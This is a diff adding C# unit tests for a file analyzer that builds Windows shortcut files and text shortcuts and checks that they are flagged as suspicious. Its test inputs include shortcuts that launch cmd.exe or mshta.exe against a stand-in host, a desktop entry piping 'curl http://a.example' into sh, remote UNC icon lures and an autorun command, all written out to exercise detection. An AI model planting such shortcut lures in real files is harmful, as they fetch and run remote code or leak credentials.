@@ -1,0 +1,68 @@
+using System.Buffers.Binary;
+using System.Text;
+using Analyzer.Core;
+using Analyzer.Engines.Tests.Making;
+
+namespace Analyzer.Engines.Tests.Kinds;
+
+/// <summary>Shortcuts: what they start, and from where.</summary>
+public sealed class ShortcutTests
+{
+    private static byte[] Link(string relativePath, string arguments, string? icon = null, byte[]? behind = null)
+    {
+        var header = new byte[0x4C];
+        new byte[] { 0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46 }.CopyTo(header, 0);
+        BinaryPrimitives.WriteInt32LittleEndian(header.AsSpan(0x14), 0x80 | 0x08 | 0x20 | (icon is null ? 0 : 0x40));
+        return
+        [
+            .. header,
+            .. new[] { relativePath, arguments, icon }.Where(text => text is not null)
+                .SelectMany(text => BitConverter.GetBytes((ushort)text!.Length).Concat(Encoding.Unicode.GetBytes(text))),
+            0, 0, 0, 0, .. behind ?? [],
+        ];
+    }
+
+    [Theory]
+    [InlineData(@"..\Windows\System32\cmd.exe", "/c start http://a.example", "shortcut.command")]
+    [InlineData(@"..\a\mshta.exe", "http://a.example/x.hta", "shortcut.command")]
+    [InlineData(@"..\Documents\a.pdf", "", null)]
+    public void Complete_Link_IsJudgedByWhatItStarts(string path, string arguments, string? rule)
+    {
+        var alone = Judged.Of(Link(path, arguments));
+        var inside = Judged.Of(ZipMaker.Pack(("a.lnk", Link(path, arguments))));
+
+        alone.Verdict.ShouldBe(rule is null ? Verdict.Unable : Verdict.Suspicious, Judged.Text(alone));
+        alone.Findings.Single(finding => finding.Rule == "shortcut.target").Excerpt!.ShouldContain(path);
+        inside.Verdict.ShouldBeOneOf(Verdict.Suspicious, Verdict.Malicious);
+        if (rule is not null)
+        {
+            alone.Rules().ShouldContain(rule);
+        }
+    }
+
+    [Fact]
+    public void Complete_LinkThatHidesSomething_IsSuspicious()
+    {
+        Judged.Of(Link("a.exe", new string(' ', 200) + "x")).Rules().ShouldContain("shortcut.padded");
+        Judged.Of(Link("a.exe", "", @"\\a.example\s\i.ico")).Rules().ShouldContain("shortcut.remote");
+        Judged.Of(Link("a.exe", "", null, [.. Samples.Program, .. new byte[2000]])).Verdict.ShouldBe(Verdict.Suspicious);
+        Judged.Of([.. Link("a.exe", "")[..0x4C]]).Verdict.ShouldBe(Verdict.Unable);
+    }
+
+    [Theory]
+    [InlineData("[InternetShortcut]\r\nURL=https://a.example/\r\n", Verdict.Unable)]
+    [InlineData("[InternetShortcut]\r\nURL=file://a.example/share/a.exe\r\n", Verdict.Suspicious)]
+    [InlineData("[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nIDList=\r\n"
+        + "URL=https://a.example/\r\nIconFile=\\\\a.example\\s\\i.ico\r\n", Verdict.Suspicious)]
+    [InlineData("[InternetShortcut]\r\nURL=search-ms:query=a\r\n", Verdict.Suspicious)]
+    [InlineData("[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://a.example | sh'\n", Verdict.Suspicious)]
+    [InlineData("[Shell]\r\nCommand=2\r\nIconFile=\\\\a.example\\s\\i.ico\r\n", Verdict.Suspicious)]
+    [InlineData("[autorun]\r\nopen=cmd.exe /c a\r\n", Verdict.Suspicious)]
+    public void Complete_ShortcutInText_IsJudgedByWhereItLeads(string text, Verdict verdict)
+    {
+        var alone = Judged.Of(text);
+
+        alone.Verdict.ShouldBe(verdict, Judged.Text(alone));
+        Judged.Of(ZipMaker.Pack(("a", text))).Verdict.ShouldBeOneOf(Verdict.Suspicious, Verdict.Malicious);
+    }
+}
